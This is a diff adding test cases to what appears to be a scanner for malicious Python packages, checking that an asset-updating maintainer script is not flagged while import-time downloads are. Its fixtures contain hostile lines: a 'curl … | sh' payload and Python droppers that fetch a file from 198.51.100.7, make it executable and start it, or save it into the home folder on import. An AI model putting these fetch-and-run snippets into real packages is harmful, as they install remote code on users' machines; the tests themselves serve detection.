@@ -74,3 +74,41 @@ def test_a_file_written_to_the_temp_folder_with_a_command_in_it_is_still_caught(
     command = "'curl http://198.51.100.7/x | sh'"
     files = {"pkg/__init__.py": "", "pkg/handler.py": MARKER.replace("{payload}", command)}
     assert_high_with("temp script", scan(files, tmp_path), {"place.import_time"})
+
+
+# ---------------------------------------------------------------- a download into the source tree
+# sweetviz ships update_jquery.py, a maintainer's script that saves the new jQuery into
+# sweetviz/templates/js/ relative to the working directory: a path that only exists in the
+# project's checkout, run from its root; where a user imports the package it names nothing.
+UPDATER = (
+    "import urllib.request\nfrom os import remove\n\nnew = 'jquery-3.7.1.min.js'\n"
+    "try:\n"
+    "    urllib.request.urlretrieve(\n"
+    "        f'https://example.invalid/{new}', f'pkg/templates/js/{new}'\n    )\n"
+    "    remove('pkg/templates/js/jquery-3.4.1.min.js')\n"
+    "except Exception as ex:\n    print(ex)\n"
+)
+
+
+def test_a_download_into_the_packages_own_source_folder_is_a_maintainers_step(tmp_path):
+    files = {"pkg/__init__.py": "", "pkg/update_assets.py": UPDATER}
+    _below_high(scan(files, tmp_path))
+
+
+def test_a_download_into_the_source_folder_that_is_then_started_is_still_caught(tmp_path):
+    fetch = (
+        "import os\nimport subprocess\nimport urllib.request\n\n"
+        "urllib.request.urlretrieve('http://198.51.100.7/t', 'pkg/bin/tool')\n"
+        "os.chmod('pkg/bin/tool', 0o755)\nsubprocess.Popen(['pkg/bin/tool'])\n"
+    )
+    files = {"pkg/__init__.py": "from . import fetch\n", "pkg/fetch.py": fetch}
+    assert_high_with("own-tree dropper", scan(files, tmp_path), {"chain.download_execute"})
+
+
+def test_a_download_to_the_home_folder_on_import_is_still_an_import_time_act(tmp_path):
+    fetch = (
+        "import os\nimport urllib.request\n\n"
+        "urllib.request.urlretrieve('http://198.51.100.7/t', os.path.expanduser('~/.t'))\n"
+    )
+    files = {"pkg/__init__.py": "from . import fetch\n", "pkg/fetch.py": fetch}
+    assert_high_with("home download", scan(files, tmp_path), {"place.import_time"})
